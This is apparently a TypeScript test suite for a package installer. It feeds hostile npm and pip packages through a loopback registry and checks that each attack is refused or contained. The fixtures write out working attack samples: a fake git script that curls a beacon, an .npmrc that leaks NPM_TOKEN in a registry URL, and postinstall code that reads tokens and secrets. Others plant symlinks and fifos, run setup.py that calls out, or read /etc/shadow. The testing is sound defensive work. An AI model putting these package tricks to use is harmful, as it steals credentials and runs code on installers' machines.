/**
 * Attacks of a hostile package while it is reviewed, installed and described, with the real npm and pip and a registry on
 * loopback. Each attack runs against a server that is root and one that is not; without root only against the latter.
 */
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { buildWheel } from "@capstan/core/internal";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { installAs, SERVERS } from "../../../../tools/packages/install-as.ts";
import type { InstallOrder } from "../../../../tools/packages/install-in-process.ts";
import { LoopbackRegistry, tarball } from "../../../../tools/packages/loopback-registry.ts";
import { demoManifest, file, testTarball, testWheel } from "../../../../tools/packages/test-packages.ts";
import { nodeCodec } from "../../../runtime/src/install/node-codec.ts";

const SECRET = "what only the server may read";
const TOKEN = "npm_token_of_the_operator";

let registry: LoopbackRegistry;
let folder: string;
/** A file that the attack creates when its code runs with sufficient rights. */
let canary: string;
beforeEach(async () => {
  registry = await LoopbackRegistry.start();
  folder = mkdtempSync(join(tmpdir(), "capstan-attack-"));
  chmodSync(folder, 0o777);
  mkdirSync(join(folder, "open"), { mode: 0o777 });
  chmodSync(join(folder, "open"), 0o777);
  canary = join(folder, "open", "reached");
});
afterEach(() => {
  registry.close();
  rmSync(folder, { recursive: true, force: true });
});

describe.each(SERVERS)("a package that a server run by $server installs", ({ drop }) => {
  const install = (bytes: Uint8Array, fileName: string, more: Partial<InstallOrder> = {}) =>
    installAs(
      drop,
      bytes,
      { fileName, ...more },
      { folder, registryUrl: registry.url, secret: SECRET, npmToken: TOKEN },
    );

  test("would run its own program as the server's git, named by an .npmrc in the archive", async () => {
    const files = { ".npmrc": `git=${join(folder, "data")}/evil.sh\n`, "evil.sh": shellCode() };
    for (const git of ["./evil.sh", "package/evil.sh"]) {
      const npmrc = { ...files, ".npmrc": `git=${git}\n` };
      const json = { dependencies: { evil: `git+${registry.url}evil.git` } };
      const answer = await install(nodePackage(json, npmrc), "x.tgz");
      expect(answer).toMatchObject({ ok: false, failure: { code: "archive_refused" } });
    }
    expectNothingRan();
  });

  test("would send the operator's token to a registry that its .npmrc names", async () => {
    registry.publish({ name: "helper" });
    const npmrc = { ".npmrc": `registry=${registry.url}${"$"}{NPM_TOKEN}/\n` };
    const answer = await install(nodePackage({ dependencies: { helper: "^1.0.0" } }, npmrc), "x.tgz");
    expect(answer).toMatchObject({ ok: true });
    expect(registry.requests.filter(({ path, headers }) => `${path}${headers}`.includes(TOKEN))).toEqual([]);
  });

  test.each([
    ["an address", "http://127.0.0.1:1/evil.tgz"],
    ["git", "git+https://127.0.0.1:1/evil.git"],
    ["GitHub", "someone/evil"],
    ["a folder of the server", "file:/etc"],
  ])("would bring code that nobody reviewed, by %s", async (_, range) => {
    expect(await install(nodePackage({ dependencies: { evil: range } }), "x.tgz")).toMatchObject({
      failure: { code: "archive_refused", message: expect.stringContaining("not a version in a registry") },
    });
  });

  test("would bring code by an address through one of its dependencies", async () => {
    registry.serve(
      "/evil.tgz",
      tarball({ "package.json": JSON.stringify({ name: "evil", version: "1.0.0" }) }),
    );
    registry.publish({ name: "carrier", json: { dependencies: { evil: `${registry.url}evil.tgz` } } });
    expect(await install(nodePackage({ dependencies: { carrier: "1.0.0" } }), "x.tgz")).toMatchObject({
      failure: { code: "archive_refused", message: expect.stringContaining("carrier depends on evil") },
    });
  });

  test("would hide a dependency of a dependency from the review", async () => {
    registry.publish({ name: "deepest" });
    registry.publish({ name: "middle", json: { dependencies: { deepest: "1" } } });
    const answer = await install(nodePackage({ dependencies: { middle: "1" } }), "x.tgz", {
      reviewOnly: true,
    });
    const names = answer.value.resolved_dependencies.map(({ name }) => name);
    expect(names.sort()).toEqual(["deepest", "middle"]);
    expect(answer.value.resolved_dependencies[0]).toMatchObject({ hash: expect.stringMatching(/^sha512-/) });
  });

  test("would show another package's name in the review, by an alias, in itself or in a dependency", async () => {
    registry.publish({ name: "evil" });
    registry.publish({ name: "middle", json: { dependencies: { right: "npm:evil@1.0.0" } } });
    for (const [dependencies, alias] of [
      [{ left: "npm:evil@1.0.0" }, "left"],
      [{ middle: "1" }, "right"],
    ] as const) {
      const answer = await install(nodePackage({ dependencies }), "x.tgz", { reviewOnly: true });
      const evil = { name: "evil", version: "1.0.0", hash: hashOf("evil"), installed_as: alias };
      expect(answer.value.resolved_dependencies).toContainEqual(evil);
    }
  });

  test("would bring code from any address that a dependency's own lock file names, as another package", async () => {
    registry.publish({ name: "helper" });
    registry.publish({ name: "evil" });
    const resolved = `${registry.url}tarballs/evil-1.0.0.tgz`;
    const own = { version: "1.0.0", resolved, integrity: hashOf("evil") };
    const dependencies = { helper: "1" };
    const packages = { "": { dependencies }, "node_modules/helper": own };
    const shrinkwrap = JSON.stringify({ lockfileVersion: 3, packages });
    const json = { dependencies, _hasShrinkwrap: true };
    registry.publish({ name: "carrier", json, files: { "npm-shrinkwrap.json": shrinkwrap } });
    expect(await install(nodePackage({ dependencies: { carrier: "1.0.0" } }), "x.tgz")).toMatchObject({
      failure: { code: "dependency_refused", message: expect.stringContaining("carrier 1.0.0") },
    });
  });

  test("would bring code by an address that a dependency asks its neighbours for", async () => {
    registry.publish({ name: "helper" });
    registry.serve("/elsewhere/x.tgz", tarball({ "package.json": JSON.stringify(HELPER) }));
    const peerDependencies = { helper: `${registry.url}elsewhere/x.tgz` };
    registry.publish({ name: "carrier", json: { peerDependencies } });
    expect(await install(nodePackage({ dependencies: { carrier: "1.0.0" } }), "x.tgz")).toMatchObject({
      failure: { code: "archive_refused", message: expect.stringContaining("carrier depends on helper") },
    });
  });

  test("would hide a package inside the archive of a dependency from the review", async () => {
    const inner = { "node_modules/helper/package.json": JSON.stringify(HELPER) };
    const json = { dependencies: { helper: "1" }, bundleDependencies: ["helper"] };
    registry.publish({ name: "carrier", json, files: inner });
    const answer = await install(nodePackage({ dependencies: { carrier: "1" } }), "x.tgz", {
      reviewOnly: true,
    });
    const hash = hashOf("carrier");
    expect(answer.value.resolved_dependencies).toEqual([
      { name: "carrier", version: "1.0.0", hash },
      { ...HELPER, hash, inside: "carrier 1.0.0" },
    ]);
  });

  test("would read the operator's token, the server's files and the machine's ports in a script that was allowed", async () => {
    const script = `node -e "${[
      "const fs=require('fs')",
      `let s='';try{s=fs.readFileSync('${join(folder, "data", "secret")}','utf8')}catch{}`,
      `try{fs.writeFileSync('${canary}','x')}catch{}`,
      "const tell=(reached)=>{console.error('found '+JSON.stringify([process.env.NPM_TOKEN,s,reached]));process.exit(1)}",
      `fetch('${registry.url}beacon/ran').then((answer)=>tell(answer.ok),()=>tell(false))`,
    ].join(";")}"`;
    const answer = await install(nodePackage({ scripts: { postinstall: script } }), "x.tgz", {
      allowScripts: true,
    });
    const found = expect.stringContaining('found [null,"",false]'); // it ran, and this is what it got
    expect(answer).toMatchObject({ failure: { message: found } });
    expect(registry.beacons).toEqual([]);
    expect(existsSync(canary)).toBe(false);
  });

  test.each([
    ["overwrite a file of the server, by a link in place of npm's settings", "ln -s '$SECRET'"],
    ["stop the server, by a pipe in place of npm's settings", "mkfifo"],
  ])("would %s, which a script that was allowed makes", async (_, make) => {
    const secret = join(folder, "data", "secret");
    const planted = `rm -f ../.capstan-npmrc; ${make.replace("$SECRET", secret)} ../.capstan-npmrc`;
    const scripts = { preinstall: planted, install: "true" };
    const answer = await install(nodePackage({ scripts }), "x.tgz", { allowScripts: true });
    expect(answer).toMatchObject({ ok: true });
    expect(readFileSync(secret, "utf8")).toBe(SECRET);
  });

  test("would run a setup.py, because a wheel may name source code by its address", async () => {
    registry.serve("/evil-1.0.tar.gz", sourceArchive());
    const dependencies = [`evil @ ${registry.url}evil-1.0.tar.gz`];
    expect(await install(testWheel({ dependencies }), "x.whl")).toMatchObject({
      failure: { code: "archive_refused", message: expect.stringContaining("URL") },
    });
    expectNothingRan();
  });

  test("would run a setup.py that one of its dependencies names by its address", async () => {
    registry.serve("/evil-1.0.tar.gz", sourceArchive());
    registry.upload(
      "carrier",
      "carrier-1.0-py3-none-any.whl",
      wheelWith([`evil @ ${registry.url}evil-1.0.tar.gz`]),
    );
    expect(await install(testWheel({ dependencies: ["carrier"] }), "x.whl")).toMatchObject({
      failure: { code: "archive_refused", message: expect.stringContaining("only wheels") },
    });
    expectNothingRan();
  });

  test("would run a setup.py that the index has instead of a wheel", async () => {
    registry.upload("evil", "evil-1.0.tar.gz", sourceArchive());
    expect(await install(testWheel({ dependencies: ["evil"] }), "x.whl")).toMatchObject({
      failure: { code: "package_dependencies_missing" },
    });
    expectNothingRan();
  });

  test("would hide a dependency behind a marker that is always true", async () => {
    registry.upload("hidden", "hidden-1.0-py3-none-any.whl", wheelWith([], "hidden"));
    const dependencies = ['hidden; extra == "never" or python_version >= "3"'];
    const answer = await install(testWheel({ dependencies }), "x.whl", { reviewOnly: true });
    expect(answer.value.resolved_dependencies).toMatchObject([{ name: "hidden", version: "1.0" }]);
  });

  test("would read the server's folder, whose mode is 0700, while it describes itself", async () => {
    const code = describingCode();
    const bytes = testTarball({ manifest: undefined, code });
    const answer = await install(bytes, "x.tgz", { runToDescribe: true, reviewOnly: true });
    const seen = JSON.parse(answer.value.summary);
    expect(seen).toMatchObject({ secret: "", shadow: "", wrote: false });
    expect(seen.uid).not.toBe(0);
    expect(existsSync(canary)).toBe(false);
  });

  test("would read it with a Python that lies in a private home", async () => {
    const code = `
import json, os
def read(path):
    try: return open(path).read()
    except Exception: return ""
def cli():
    seen = {"uid": os.getuid(), "secret": read(${JSON.stringify(join(folder, "data", "secret"))}), "shadow": read("/etc/shadow")}
    print(json.dumps({**json.loads(${JSON.stringify(JSON.stringify(demoManifest))}), "description": json.dumps(seen)}))
`;
    const bytes = testWheel({ manifest: undefined, code });
    const answer = await install(bytes, "x.whl", { runToDescribe: true, reviewOnly: true });
    const seen = JSON.parse(answer.value.summary);
    expect(seen).toMatchObject({ secret: "", shadow: "" });
    expect(seen.uid).not.toBe(0);
  });
});

const HELPER = { name: "helper", version: "1.0.0" };

const hashOf = (name: string): string => registry.integrityOf(name, "1.0.0");

function nodePackage(json: object, files: Record<string, string> = {}): Uint8Array {
  const about = { name: "aech-cli-demo", version: "0.1.0", bin: { "aech-cli-demo": "main.mjs" }, ...json };
  return tarball({
    "package.json": JSON.stringify(about),
    "main.mjs": "",
    "manifest.json": JSON.stringify(demoManifest),
    ...files,
  });
}

const shellCode = () => `#!/bin/sh\ntouch '${canary}'\ncurl -s '${registry.url}beacon/git' || true\n`;

function sourceArchive(): Uint8Array {
  const code = `
import urllib.request
try: open(${JSON.stringify(canary)}, "w").close()
except Exception: pass
urllib.request.urlopen(${JSON.stringify(`${registry.url}beacon/setup`)}).read()
`;
  return tarball(
    { "setup.py": `${code}\nfrom setuptools import setup\nsetup(name="evil", version="1.0")\n` },
    "evil-1.0",
  );
}

function wheelWith(dependencies: string[], name = "carrier"): Uint8Array {
  const built = buildWheel(
    { project: { name, version: "1.0", dependencies } },
    [file(`${name}/__init__.py`, "")],
    nodeCodec,
  );
  if (!built.ok) throw new Error(built.failure.message);
  return built.value.bytes;
}

function describingCode(): string {
  return `#!/usr/bin/env node
import { readFileSync, writeFileSync } from "node:fs";
const read = (path) => { try { return readFileSync(path, "utf8"); } catch { return ""; } };
let wrote = true;
try { writeFileSync(${JSON.stringify(canary)}, ""); } catch { wrote = false; }
const seen = { uid: process.getuid(), secret: read(${JSON.stringify(join(folder, "data", "secret"))}), shadow: read("/etc/shadow"), wrote };
console.log(JSON.stringify({ ...${JSON.stringify(demoManifest)}, description: JSON.stringify(seen) }));
`;
}

function expectNothingRan(): void {
  expect(registry.beacons).toEqual([]);
  expect(existsSync(canary)).toBe(false);
}
